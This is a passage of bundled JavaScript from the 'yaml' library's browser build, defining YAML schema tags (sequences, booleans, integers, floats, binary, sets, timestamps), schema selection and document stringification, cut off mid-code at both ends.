    return typeof idx === "number" && idx < this.items.length;
  }
  /**
   * Sets a value in this collection. For `!!set`, `value` needs to be a
   * boolean to add/remove the item from the set.
   *
   * If `key` does not contain a representation of an integer, this will throw.
   * It may be wrapped in a `Scalar`.
   */
  set(key, value) {
    const idx = asItemIndex(key);
    if (typeof idx !== "number")
      throw new Error(`Expected a valid index, not ${key}.`);
    const prev = this.items[idx];
    if (isScalar(prev) && isScalarValue(value))
      prev.value = value;
    else
      this.items[idx] = value;
  }
  toJSON(_, ctx) {
    const seq2 = [];
    if (ctx?.onCreate)
      ctx.onCreate(seq2);
    let i = 0;
    for (const item of this.items)
      seq2.push(toJS(item, String(i++), ctx));
    return seq2;
  }
  toString(ctx, onComment, onChompKeep) {
    if (!ctx)
      return JSON.stringify(this);
    return stringifyCollection(this, ctx, {
      blockItemPrefix: "- ",
      flowChars: { start: "[", end: "]" },
      itemIndent: (ctx.indent || "") + "  ",
      onChompKeep,
      onComment
    });
  }
  static from(schema4, obj, ctx) {
    const { replacer } = ctx;
    const seq2 = new this(schema4);
    if (obj && Symbol.iterator in Object(obj)) {
      let i = 0;
      for (let it of obj) {
        if (typeof replacer === "function") {
          const key = obj instanceof Set ? it : String(i++);
          it = replacer.call(obj, key, it);
        }
        seq2.items.push(createNode(it, void 0, ctx));
      }
    }
    return seq2;
  }
};
function asItemIndex(key) {
  let idx = isScalar(key) ? key.value : key;
  if (idx && typeof idx === "string")
    idx = Number(idx);
  return typeof idx === "number" && Number.isInteger(idx) && idx >= 0 ? idx : null;
}

// node_modules/yaml/browser/dist/schema/common/seq.js
var seq = {
  collection: "seq",
  default: true,
  nodeClass: YAMLSeq,
  tag: "tag:yaml.org,2002:seq",
  resolve(seq2, onError) {
    if (!isSeq(seq2))
      onError("Expected a sequence for this tag");
    return seq2;
  },
  createNode: (schema4, obj, ctx) => YAMLSeq.from(schema4, obj, ctx)
};

// node_modules/yaml/browser/dist/schema/common/string.js
var string = {
  identify: (value) => typeof value === "string",
  default: true,
  tag: "tag:yaml.org,2002:str",
  resolve: (str) => str,
  stringify(item, ctx, onComment, onChompKeep) {
    ctx = Object.assign({ actualString: true }, ctx);
    return stringifyString(item, ctx, onComment, onChompKeep);
  }
};

// node_modules/yaml/browser/dist/schema/common/null.js
var nullTag = {
  identify: (value) => value == null,
  createNode: () => new Scalar(null),
  default: true,
  tag: "tag:yaml.org,2002:null",
  test: /^(?:~|[Nn]ull|NULL)?$/,
  resolve: () => new Scalar(null),
  stringify: ({ source }, ctx) => typeof source === "string" && nullTag.test.test(source) ? source : ctx.options.nullStr
};

// node_modules/yaml/browser/dist/schema/core/bool.js
var boolTag = {
  identify: (value) => typeof value === "boolean",
  default: true,
  tag: "tag:yaml.org,2002:bool",
  test: /^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,
  resolve: (str) => new Scalar(str[0] === "t" || str[0] === "T"),
  stringify({ source, value }, ctx) {
    if (source && boolTag.test.test(source)) {
      const sv = source[0] === "t" || source[0] === "T";
      if (value === sv)
        return source;
    }
    return value ? ctx.options.trueStr : ctx.options.falseStr;
  }
};

// node_modules/yaml/browser/dist/stringify/stringifyNumber.js
function stringifyNumber({ format, minFractionDigits, tag, value }) {
  if (typeof value === "bigint")
    return String(value);
  const num = typeof value === "number" ? value : Number(value);
  if (!isFinite(num))
    return isNaN(num) ? ".nan" : num < 0 ? "-.inf" : ".inf";
  let n = Object.is(value, -0) ? "-0" : JSON.stringify(value);
  if (!format && minFractionDigits && (!tag || tag === "tag:yaml.org,2002:float") && /^-?\d/.test(n) && !n.includes("e")) {
    let i = n.indexOf(".");
    if (i < 0) {
      i = n.length;
      n += ".";
    }
    let d = minFractionDigits - (n.length - i - 1);
    while (d-- > 0)
      n += "0";
  }
  return n;
}

// node_modules/yaml/browser/dist/schema/core/float.js
var floatNaN = {
  identify: (value) => typeof value === "number",
  default: true,
  tag: "tag:yaml.org,2002:float",
  test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
  resolve: (str) => str.slice(-3).toLowerCase() === "nan" ? NaN : str[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
  stringify: stringifyNumber
};
var floatExp = {
  identify: (value) => typeof value === "number",
  default: true,
  tag: "tag:yaml.org,2002:float",
  format: "EXP",
  test: /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,
  resolve: (str) => parseFloat(str),
  stringify(node) {
    const num = Number(node.value);
    return isFinite(num) ? num.toExponential() : stringifyNumber(node);
  }
};
var float = {
  identify: (value) => typeof value === "number",
  default: true,
  tag: "tag:yaml.org,2002:float",
  test: /^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
  resolve(str) {
    const node = new Scalar(parseFloat(str));
    const dot = str.indexOf(".");
    if (dot !== -1 && str[str.length - 1] === "0")
      node.minFractionDigits = str.length - dot - 1;
    return node;
  },
  stringify: stringifyNumber
};

// node_modules/yaml/browser/dist/schema/core/int.js
var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
var intResolve = (str, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str) : parseInt(str.substring(offset), radix);
function intStringify(node, radix, prefix) {
  const { value } = node;
  if (intIdentify(value) && value >= 0)
    return prefix + value.toString(radix);
  return stringifyNumber(node);
}
var intOct = {
  identify: (value) => intIdentify(value) && value >= 0,
  default: true,
  tag: "tag:yaml.org,2002:int",
  format: "OCT",
  test: /^0o[0-7]+$/,
  resolve: (str, _onError, opt) => intResolve(str, 2, 8, opt),
  stringify: (node) => intStringify(node, 8, "0o")
};
var int = {
  identify: intIdentify,
  default: true,
  tag: "tag:yaml.org,2002:int",
  test: /^[-+]?[0-9]+$/,
  resolve: (str, _onError, opt) => intResolve(str, 0, 10, opt),
  stringify: stringifyNumber
};
var intHex = {
  identify: (value) => intIdentify(value) && value >= 0,
  default: true,
  tag: "tag:yaml.org,2002:int",
  format: "HEX",
  test: /^0x[0-9a-fA-F]+$/,
  resolve: (str, _onError, opt) => intResolve(str, 2, 16, opt),
  stringify: (node) => intStringify(node, 16, "0x")
};

// node_modules/yaml/browser/dist/schema/core/schema.js
var schema = [
  map,
  seq,
  string,
  nullTag,
  boolTag,
  intOct,
  int,
  intHex,
  floatNaN,
  floatExp,
  float
];

// node_modules/yaml/browser/dist/schema/json/schema.js
function intIdentify2(value) {
  return typeof value === "bigint" || Number.isInteger(value);
}
var stringifyJSON = ({ value }) => JSON.stringify(value);
var jsonScalars = [
  {
    identify: (value) => typeof value === "string",
    default: true,
    tag: "tag:yaml.org,2002:str",
    resolve: (str) => str,
    stringify: stringifyJSON
  },
  {
    identify: (value) => value == null,
    createNode: () => new Scalar(null),
    default: true,
    tag: "tag:yaml.org,2002:null",
    test: /^null$/,
    resolve: () => null,
    stringify: stringifyJSON
  },
  {
    identify: (value) => typeof value === "boolean",
    default: true,
    tag: "tag:yaml.org,2002:bool",
    test: /^true$|^false$/,
    resolve: (str) => str === "true",
    stringify: stringifyJSON
  },
  {
    identify: intIdentify2,
    default: true,
    tag: "tag:yaml.org,2002:int",
    test: /^-?(?:0|[1-9][0-9]*)$/,
    resolve: (str, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str) : parseInt(str, 10),
    stringify: ({ value }) => intIdentify2(value) ? value.toString() : JSON.stringify(value)
  },
  {
    identify: (value) => typeof value === "number",
    default: true,
    tag: "tag:yaml.org,2002:float",
    test: /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
    resolve: (str) => parseFloat(str),
    stringify: stringifyJSON
  }
];
var jsonError = {
  default: true,
  tag: "",
  test: /^/,
  resolve(str, onError) {
    onError(`Unresolved plain scalar ${JSON.stringify(str)}`);
    return str;
  }
};
var schema2 = [map, seq].concat(jsonScalars, jsonError);

// node_modules/yaml/browser/dist/schema/yaml-1.1/binary.js
var binary = {
  identify: (value) => value instanceof Uint8Array,
  // Buffer inherits from Uint8Array
  default: false,
  tag: "tag:yaml.org,2002:binary",
  /**
   * Returns a Buffer in node and an Uint8Array in browsers
   *
   * To use the resulting buffer as an image, you'll want to do something like:
   *
   *   const blob = new Blob([buffer], { type: 'image/jpeg' })
   *   document.querySelector('#photo').src = URL.createObjectURL(blob)
   */
  resolve(src, onError) {
    if (typeof atob === "function") {
      const str = atob(src.replace(/[\n\r]/g, ""));
      const buffer = new Uint8Array(str.length);
      for (let i = 0; i < str.length; ++i)
        buffer[i] = str.charCodeAt(i);
      return buffer;
    } else {
      onError("This environment does not support reading binary tags; either Buffer or atob is required");
      return src;
    }
  },
  stringify({ comment, type, value }, ctx, onComment, onChompKeep) {
    if (!value)
      return "";
    const buf = value;
    let str;
    if (typeof btoa === "function") {
      let s = "";
      for (let i = 0; i < buf.length; ++i)
        s += String.fromCharCode(buf[i]);
      str = btoa(s);
    } else {
      throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");
    }
    type ?? (type = Scalar.BLOCK_LITERAL);
    if (type !== Scalar.QUOTE_DOUBLE) {
      const lineWidth = Math.max(ctx.options.lineWidth - ctx.indent.length, ctx.options.minContentWidth);
      const n = Math.ceil(str.length / lineWidth);
      const lines = new Array(n);
      for (let i = 0, o = 0; i < n; ++i, o += lineWidth) {
        lines[i] = str.substr(o, lineWidth);
      }
      str = lines.join(type === Scalar.BLOCK_LITERAL ? "\n" : " ");
    }
    return stringifyString({ comment, type, value: str }, ctx, onComment, onChompKeep);
  }
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/pairs.js
function resolvePairs(seq2, onError) {
  if (isSeq(seq2)) {
    for (let i = 0; i < seq2.items.length; ++i) {
      let item = seq2.items[i];
      if (isPair(item))
        continue;
      else if (isMap(item)) {
        if (item.items.length > 1)
          onError("Each pair must have its own sequence indicator");
        const pair = item.items[0] || new Pair(new Scalar(null));
        if (item.commentBefore)
          pair.key.commentBefore = pair.key.commentBefore ? `${item.commentBefore}
${pair.key.commentBefore}` : item.commentBefore;
        if (item.comment) {
          const cn = pair.value ?? pair.key;
          cn.comment = cn.comment ? `${item.comment}
${cn.comment}` : item.comment;
        }
        item = pair;
      }
      seq2.items[i] = isPair(item) ? item : new Pair(item);
    }
  } else
    onError("Expected a sequence for this tag");
  return seq2;
}
function createPairs(schema4, iterable, ctx) {
  const { replacer } = ctx;
  const pairs2 = new YAMLSeq(schema4);
  pairs2.tag = "tag:yaml.org,2002:pairs";
  let i = 0;
  if (iterable && Symbol.iterator in Object(iterable))
    for (let it of iterable) {
      if (typeof replacer === "function")
        it = replacer.call(iterable, String(i++), it);
      let key, value;
      if (Array.isArray(it)) {
        if (it.length === 2) {
          key = it[0];
          value = it[1];
        } else
          throw new TypeError(`Expected [key, value] tuple: ${it}`);
      } else if (it && it instanceof Object) {
        const keys = Object.keys(it);
        if (keys.length === 1) {
          key = keys[0];
          value = it[key];
        } else {
          throw new TypeError(`Expected tuple with one key, not ${keys.length} keys`);
        }
      } else {
        key = it;
      }
      pairs2.items.push(createPair(key, value, ctx));
    }
  return pairs2;
}
var pairs = {
  collection: "seq",
  default: false,
  tag: "tag:yaml.org,2002:pairs",
  resolve: resolvePairs,
  createNode: createPairs
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/omap.js
var YAMLOMap = class _YAMLOMap extends YAMLSeq {
  constructor() {
    super();
    this.add = YAMLMap.prototype.add.bind(this);
    this.delete = YAMLMap.prototype.delete.bind(this);
    this.get = YAMLMap.prototype.get.bind(this);
    this.has = YAMLMap.prototype.has.bind(this);
    this.set = YAMLMap.prototype.set.bind(this);
    this.tag = _YAMLOMap.tag;
  }
  /**
   * If `ctx` is given, the return type is actually `Map<unknown, unknown>`,
   * but TypeScript won't allow widening the signature of a child method.
   */
  toJSON(_, ctx) {
    if (!ctx)
      return super.toJSON(_);
    const map2 = /* @__PURE__ */ new Map();
    if (ctx?.onCreate)
      ctx.onCreate(map2);
    for (const pair of this.items) {
      let key, value;
      if (isPair(pair)) {
        key = toJS(pair.key, "", ctx);
        value = toJS(pair.value, key, ctx);
      } else {
        key = toJS(pair, "", ctx);
      }
      if (map2.has(key))
        throw new Error("Ordered maps must not include duplicate keys");
      map2.set(key, value);
    }
    return map2;
  }
  static from(schema4, iterable, ctx) {
    const pairs2 = createPairs(schema4, iterable, ctx);
    const omap2 = new this();
    omap2.items = pairs2.items;
    return omap2;
  }
};
YAMLOMap.tag = "tag:yaml.org,2002:omap";
var omap = {
  collection: "seq",
  identify: (value) => value instanceof Map,
  nodeClass: YAMLOMap,
  default: false,
  tag: "tag:yaml.org,2002:omap",
  resolve(seq2, onError) {
    const pairs2 = resolvePairs(seq2, onError);
    const seenKeys = [];
    for (const { key } of pairs2.items) {
      if (isScalar(key)) {
        if (seenKeys.includes(key.value)) {
          onError(`Ordered maps must not include duplicate keys: ${key.value}`);
        } else {
          seenKeys.push(key.value);
        }
      }
    }
    return Object.assign(new YAMLOMap(), pairs2);
  },
  createNode: (schema4, iterable, ctx) => YAMLOMap.from(schema4, iterable, ctx)
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/bool.js
function boolStringify({ value, source }, ctx) {
  const boolObj = value ? trueTag : falseTag;
  if (source && boolObj.test.test(source))
    return source;
  return value ? ctx.options.trueStr : ctx.options.falseStr;
}
var trueTag = {
  identify: (value) => value === true,
  default: true,
  tag: "tag:yaml.org,2002:bool",
  test: /^(?:Y|y|[Yy]es|YES|[Tt]rue|TRUE|[Oo]n|ON)$/,
  resolve: () => new Scalar(true),
  stringify: boolStringify
};
var falseTag = {
  identify: (value) => value === false,
  default: true,
  tag: "tag:yaml.org,2002:bool",
  test: /^(?:N|n|[Nn]o|NO|[Ff]alse|FALSE|[Oo]ff|OFF)$/,
  resolve: () => new Scalar(false),
  stringify: boolStringify
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/float.js
var floatNaN2 = {
  identify: (value) => typeof value === "number",
  default: true,
  tag: "tag:yaml.org,2002:float",
  test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
  resolve: (str) => str.slice(-3).toLowerCase() === "nan" ? NaN : str[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
  stringify: stringifyNumber
};
var floatExp2 = {
  identify: (value) => typeof value === "number",
  default: true,
  tag: "tag:yaml.org,2002:float",
  format: "EXP",
  test: /^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,
  resolve: (str) => parseFloat(str.replace(/_/g, "")),
  stringify(node) {
    const num = Number(node.value);
    return isFinite(num) ? num.toExponential() : stringifyNumber(node);
  }
};
var float2 = {
  identify: (value) => typeof value === "number",
  default: true,
  tag: "tag:yaml.org,2002:float",
  test: /^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,
  resolve(str) {
    const node = new Scalar(parseFloat(str.replace(/_/g, "")));
    const dot = str.indexOf(".");
    if (dot !== -1) {
      const f = str.substring(dot + 1).replace(/_/g, "");
      if (f[f.length - 1] === "0")
        node.minFractionDigits = f.length;
    }
    return node;
  },
  stringify: stringifyNumber
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/int.js
var intIdentify3 = (value) => typeof value === "bigint" || Number.isInteger(value);
function intResolve2(str, offset, radix, { intAsBigInt }) {
  const sign = str[0];
  if (sign === "-" || sign === "+")
    offset += 1;
  str = str.substring(offset).replace(/_/g, "");
  if (intAsBigInt) {
    switch (radix) {
      case 2:
        str = `0b${str}`;
        break;
      case 8:
        str = `0o${str}`;
        break;
      case 16:
        str = `0x${str}`;
        break;
    }
    const n2 = BigInt(str);
    return sign === "-" ? BigInt(-1) * n2 : n2;
  }
  const n = parseInt(str, radix);
  return sign === "-" ? -1 * n : n;
}
function intStringify2(node, radix, prefix) {
  const { value } = node;
  if (intIdentify3(value)) {
    const str = value.toString(radix);
    return value < 0 ? "-" + prefix + str.substr(1) : prefix + str;
  }
  return stringifyNumber(node);
}
var intBin = {
  identify: intIdentify3,
  default: true,
  tag: "tag:yaml.org,2002:int",
  format: "BIN",
  test: /^[-+]?0b[0-1_]+$/,
  resolve: (str, _onError, opt) => intResolve2(str, 2, 2, opt),
  stringify: (node) => intStringify2(node, 2, "0b")
};
var intOct2 = {
  identify: intIdentify3,
  default: true,
  tag: "tag:yaml.org,2002:int",
  format: "OCT",
  test: /^[-+]?0[0-7_]+$/,
  resolve: (str, _onError, opt) => intResolve2(str, 1, 8, opt),
  stringify: (node) => intStringify2(node, 8, "0")
};
var int2 = {
  identify: intIdentify3,
  default: true,
  tag: "tag:yaml.org,2002:int",
  test: /^[-+]?[0-9][0-9_]*$/,
  resolve: (str, _onError, opt) => intResolve2(str, 0, 10, opt),
  stringify: stringifyNumber
};
var intHex2 = {
  identify: intIdentify3,
  default: true,
  tag: "tag:yaml.org,2002:int",
  format: "HEX",
  test: /^[-+]?0x[0-9a-fA-F_]+$/,
  resolve: (str, _onError, opt) => intResolve2(str, 2, 16, opt),
  stringify: (node) => intStringify2(node, 16, "0x")
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/set.js
var YAMLSet = class _YAMLSet extends YAMLMap {
  constructor(schema4) {
    super(schema4);
    this.tag = _YAMLSet.tag;
  }
  add(key) {
    let pair;
    if (isPair(key))
      pair = key;
    else if (key && typeof key === "object" && "key" in key && "value" in key && key.value === null)
      pair = new Pair(key.key, null);
    else
      pair = new Pair(key, null);
    const prev = findPair(this.items, pair.key);
    if (!prev)
      this.items.push(pair);
  }
  /**
   * If `keepPair` is `true`, returns the Pair matching `key`.
   * Otherwise, returns the value of that Pair's key.
   */
  get(key, keepPair) {
    const pair = findPair(this.items, key);
    return !keepPair && isPair(pair) ? isScalar(pair.key) ? pair.key.value : pair.key : pair;
  }
  set(key, value) {
    if (typeof value !== "boolean")
      throw new Error(`Expected boolean value for set(key, value) in a YAML set, not ${typeof value}`);
    const prev = findPair(this.items, key);
    if (prev && !value) {
      this.items.splice(this.items.indexOf(prev), 1);
    } else if (!prev && value) {
      this.items.push(new Pair(key));
    }
  }
  toJSON(_, ctx) {
    return super.toJSON(_, ctx, Set);
  }
  toString(ctx, onComment, onChompKeep) {
    if (!ctx)
      return JSON.stringify(this);
    if (this.hasAllNullValues(true))
      return super.toString(Object.assign({}, ctx, { allNullValues: true }), onComment, onChompKeep);
    else
      throw new Error("Set items must all have null values");
  }
  static from(schema4, iterable, ctx) {
    const { replacer } = ctx;
    const set2 = new this(schema4);
    if (iterable && Symbol.iterator in Object(iterable))
      for (let value of iterable) {
        if (typeof replacer === "function")
          value = replacer.call(iterable, value, value);
        set2.items.push(createPair(value, null, ctx));
      }
    return set2;
  }
};
YAMLSet.tag = "tag:yaml.org,2002:set";
var set = {
  collection: "map",
  identify: (value) => value instanceof Set,
  nodeClass: YAMLSet,
  default: false,
  tag: "tag:yaml.org,2002:set",
  createNode: (schema4, iterable, ctx) => YAMLSet.from(schema4, iterable, ctx),
  resolve(map2, onError) {
    if (isMap(map2)) {
      if (map2.hasAllNullValues(true))
        return Object.assign(new YAMLSet(), map2);
      else
        onError("Set items must all have null values");
    } else
      onError("Expected a mapping for this tag");
    return map2;
  }
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/timestamp.js
function parseSexagesimal(str, asBigInt) {
  const sign = str[0];
  const parts = sign === "-" || sign === "+" ? str.substring(1) : str;
  const num = (n) => asBigInt ? BigInt(n) : Number(n);
  const res = parts.replace(/_/g, "").split(":").reduce((res2, p) => res2 * num(60) + num(p), num(0));
  return sign === "-" ? num(-1) * res : res;
}
function stringifySexagesimal(node) {
  let { value } = node;
  let num = (n) => n;
  if (typeof value === "bigint")
    num = (n) => BigInt(n);
  else if (isNaN(value) || !isFinite(value))
    return stringifyNumber(node);
  let sign = "";
  if (value < 0) {
    sign = "-";
    value *= num(-1);
  }
  const _60 = num(60);
  const parts = [value % _60];
  if (value < 60) {
    parts.unshift(0);
  } else {
    value = (value - parts[0]) / _60;
    parts.unshift(value % _60);
    if (value >= 60) {
      value = (value - parts[0]) / _60;
      parts.unshift(value);
    }
  }
  return sign + parts.map((n) => String(n).padStart(2, "0")).join(":").replace(/000000\d*$/, "");
}
var intTime = {
  identify: (value) => typeof value === "bigint" || Number.isInteger(value),
  default: true,
  tag: "tag:yaml.org,2002:int",
  format: "TIME",
  test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,
  resolve: (str, _onError, { intAsBigInt }) => parseSexagesimal(str, intAsBigInt),
  stringify: stringifySexagesimal
};
var floatTime = {
  identify: (value) => typeof value === "number",
  default: true,
  tag: "tag:yaml.org,2002:float",
  format: "TIME",
  test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,
  resolve: (str) => parseSexagesimal(str, false),
  stringify: stringifySexagesimal
};
var timestamp = {
  identify: (value) => value instanceof Date,
  default: true,
  tag: "tag:yaml.org,2002:timestamp",
  // If the time zone is omitted, the timestamp is assumed to be specified in UTC. The time part
  // may be omitted altogether, resulting in a date format. In such a case, the time part is
  // assumed to be 00:00:00Z (start of day, UTC).
  test: RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),
  resolve(str) {
    const match = str.match(timestamp.test);
    if (!match)
      throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");
    const [, year, month, day, hour, minute, second] = match.map(Number);
    const millisec = match[7] ? Number((match[7] + "00").substr(1, 3)) : 0;
    let date = Date.UTC(year, month - 1, day, hour || 0, minute || 0, second || 0, millisec);
    const tz = match[8];
    if (tz && tz !== "Z") {
      let d = parseSexagesimal(tz, false);
      if (Math.abs(d) < 30)
        d *= 60;
      date -= 6e4 * d;
    }
    return new Date(date);
  },
  stringify: ({ value }) => value?.toISOString().replace(/(T00:00:00)?\.000Z$/, "") ?? ""
};

// node_modules/yaml/browser/dist/schema/yaml-1.1/schema.js
var schema3 = [
  map,
  seq,
  string,
  nullTag,
  trueTag,
  falseTag,
  intBin,
  intOct2,
  int2,
  intHex2,
  floatNaN2,
  floatExp2,
  float2,
  binary,
  merge,
  omap,
  pairs,
  set,
  intTime,
  floatTime,
  timestamp
];

// node_modules/yaml/browser/dist/schema/tags.js
var schemas = /* @__PURE__ */ new Map([
  ["core", schema],
  ["failsafe", [map, seq, string]],
  ["json", schema2],
  ["yaml11", schema3],
  ["yaml-1.1", schema3]
]);
var tagsByName = {
  binary,
  bool: boolTag,
  float,
  floatExp,
  floatNaN,
  floatTime,
  int,
  intHex,
  intOct,
  intTime,
  map,
  merge,
  null: nullTag,
  omap,
  pairs,
  seq,
  set,
  timestamp
};
var coreKnownTags = {
  "tag:yaml.org,2002:binary": binary,
  "tag:yaml.org,2002:merge": merge,
  "tag:yaml.org,2002:omap": omap,
  "tag:yaml.org,2002:pairs": pairs,
  "tag:yaml.org,2002:set": set,
  "tag:yaml.org,2002:timestamp": timestamp
};
function getTags(customTags, schemaName, addMergeTag) {
  const schemaTags = schemas.get(schemaName);
  if (schemaTags && !customTags) {
    return addMergeTag && !schemaTags.includes(merge) ? schemaTags.concat(merge) : schemaTags.slice();
  }
  let tags = schemaTags;
  if (!tags) {
    if (Array.isArray(customTags))
      tags = [];
    else {
      const keys = Array.from(schemas.keys()).filter((key) => key !== "yaml11").map((key) => JSON.stringify(key)).join(", ");
      throw new Error(`Unknown schema "${schemaName}"; use one of ${keys} or define customTags array`);
    }
  }
  if (Array.isArray(customTags)) {
    for (const tag of customTags)
      tags = tags.concat(tag);
  } else if (typeof customTags === "function") {
    tags = customTags(tags.slice());
  }
  if (addMergeTag)
    tags = tags.concat(merge);
  return tags.reduce((tags2, tag) => {
    const tagObj = typeof tag === "string" ? tagsByName[tag] : tag;
    if (!tagObj) {
      const tagName = JSON.stringify(tag);
      const keys = Object.keys(tagsByName).map((key) => JSON.stringify(key)).join(", ");
      throw new Error(`Unknown custom tag ${tagName}; use one of ${keys}`);
    }
    if (!tags2.includes(tagObj))
      tags2.push(tagObj);
    return tags2;
  }, []);
}

// node_modules/yaml/browser/dist/schema/Schema.js
var sortMapEntriesByKey = (a, b) => a.key < b.key ? -1 : a.key > b.key ? 1 : 0;
var Schema = class _Schema {
  constructor({ compat, customTags, merge: merge2, resolveKnownTags, schema: schema4, sortMapEntries, toStringDefaults }) {
    this.compat = Array.isArray(compat) ? getTags(compat, "compat") : compat ? getTags(null, compat) : null;
    this.name = typeof schema4 === "string" && schema4 || "core";
    this.knownTags = resolveKnownTags ? coreKnownTags : {};
    this.tags = getTags(customTags, this.name, merge2);
    this.toStringOptions = toStringDefaults ?? null;
    Object.defineProperty(this, MAP, { value: map });
    Object.defineProperty(this, SCALAR, { value: string });
    Object.defineProperty(this, SEQ, { value: seq });
    this.sortMapEntries = typeof sortMapEntries === "function" ? sortMapEntries : sortMapEntries === true ? sortMapEntriesByKey : null;
  }
  clone() {
    const copy = Object.create(_Schema.prototype, Object.getOwnPropertyDescriptors(this));
    copy.tags = this.tags.slice();
    return copy;
  }
};

// node_modules/yaml/browser/dist/stringify/stringifyDocument.js
function stringifyDocument(doc, options) {
  const lines = [];
  let hasDirectives = options.directives === true;
  if (options.directives !== false && doc.directives) {
    const dir = doc.directives.toString(doc);
    if (dir) {
      lines.push(dir);
      hasDirectives = true;
    } else if (doc.directives.docStart)
      hasDirectives = true;
  }
  if (hasDirectives)
    lines.push("---");
  const ctx = createStringifyContext(doc, options);
  const { commentString } = ctx.options;
  if (doc.commentBefore) {
    if (lines.length !== 1)
      lines.unshift("");
    const cs = commentString(doc.commentBefore);
    lines.unshift(indentComment(cs, ""));
  }
  let chompKeep = false;
  let contentComment = null;
  if (doc.contents) {
    if (isNode(doc.contents)) {
      if (doc.contents.spaceBefore && hasDirectives)
        lines.push("");
      if (doc.contents.commentBefore) {
        const cs = commentString(doc.contents.commentBefore);
        lines.push(indentComment(cs, ""));
      }
      ctx.forceBlockIndent = !!doc.comment;
      contentComment = doc.contents.comment;
    }
    const onChompKeep = contentComment ? void 0 : () => chompKeep = true;
    let body = stringify(doc.contents, ctx, () => contentComment = null, onChompKeep);
    if (contentComment)
      body += lineComment(body, "", commentString(contentComment));
    if ((body[0] === "|" || body[0] === ">") && lines[lines.length - 1] === "---") {
      lines[lines.length - 1] = `--- ${body}`;
    } else
      lines.push(body);
  } else {
    lines.push(stringify(doc.contents, ctx));
  }
  if (doc.directives?.docEnd) {
    if (doc.comment) {
      const cs = commentString(doc.comment);
      if (cs.includes("\n")) {
        lines.push("...");
        lines.push(indentComment(cs, ""));
      } else {
        lines.push(`... ${cs}`);
      }
    } else {
      lines.push("...");
    }
  } else {
    let dc = doc.comment;
    if (dc && chompKeep)
      dc = dc.replace(/^\n+/, "");
    if (dc) {
      if ((!chompKeep || contentComment) && lines[lines.length - 1] !== "")
        lines.push("");
      lines.push(indentComment(commentString(dc), ""));
    }
  }
  return lines.join("\n") + "\n";
}

// node_modules/yaml/browser/dist/doc/Document.js
var Document = class _Document {
  constructor(value, replacer, options) {
    this.commentBefore = null;
    this.comment = null;
    this.errors = [];
    this.warnings = [];
    Object.defineProperty(this, NODE_TYPE, { value: DOC });
    let _replacer = null;
    if (typeof replacer === "function" || Array.isArray(replacer)) {
      _replacer = replacer;
    } else if (options === void 0 && replacer) {
      options = replacer;
      replacer = void 0;
    }
    const opt = Object.assign({
      intAsBigInt: false,
      keepSourceTokens: false,
      logLevel: "warn",
      prettyErrors: true,
      strict: true,
      stringKeys: false,
      uniqueKeys: true,
      version: "1.2"
    }, options);
    this.options = opt;
    let { version: version2 } = opt;
    if (options?._directives) {
      this.directives = options._directives.atDocument();
      if (this.directives.yaml.explicit)
        version2 = this.directives.yaml.version;
    } else
      this.directives = new Directives({ version: version2 });
    this.setSchema(version2, options);
    this.contents = value === void 0 ? null : this.createNode(value, _replacer, options);
  }
  /**
   * Create a deep copy of this Document and its contents.
   *
   * Custom Node values that inherit from `Object` still refer to their original instances.
   */
  clone() {
    const copy = Object.create(_Document.prototype, {
      [NODE_TYPE]: { value: DOC }
    });
    copy.commentBefore = this.commentBefore;
    copy.comment = this.comment;
    copy.errors = this.errors.slice();
    copy.warnings = this.warnings.slice();
    copy.options = Object.assign({}, this.options);
    if (this.directives)
      copy.directives = this.directives.clone();
    copy.schema = this.schema.clone();
    copy.contents = isNode(this.contents) ? this.contents.clone(copy.schema) : this.contents;
    if (this.range)
      copy.range = this.range.slice();
    return copy;
  }
  /** Adds a value to the document. */
  add(value) {
    if (assertCollection(this.contents))
      this.contents.add(value);
  }
  /** Adds a value to the document. */
  addIn(path, value) {
    if (assertCollection(this.contents))
      this.contents.addIn(path, value);
  }
  /**
   * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
   *
   * If `node` already has an anchor, `name` is ignored.
   * Otherwise, the `node.anchor` value will be set to `name`,
   * or if an anchor with that name is already present in the document,
   * `name` will be used as a prefix for a new unique anchor.
   * If `name` is undefined, the generated anchor will use 'a' as a prefix.
   */
  createAlias(node, name) {
    if (!node.anchor) {
      const prev = anchorNames(this);
      node.anchor = // eslint-disable-next-line @typescript-eslint/prefer-nullish-coalescing
      !name || prev.has(name) ? findNewAnchor(name || "a", prev) : name;
    }
    return new Alias(node.anchor);
  }
  createNode(value, replacer, options) {
    let _replacer = void 0;
    if (typeof replacer === "function") {
      value = replacer.call({ "": value }, "", value);
      _replacer = replacer;
    } else if (Array.isArray(replacer)) {
      const keyToStr = (v2) => typeof v2 === "number" || v2 instanceof String || v2 instanceof Number;
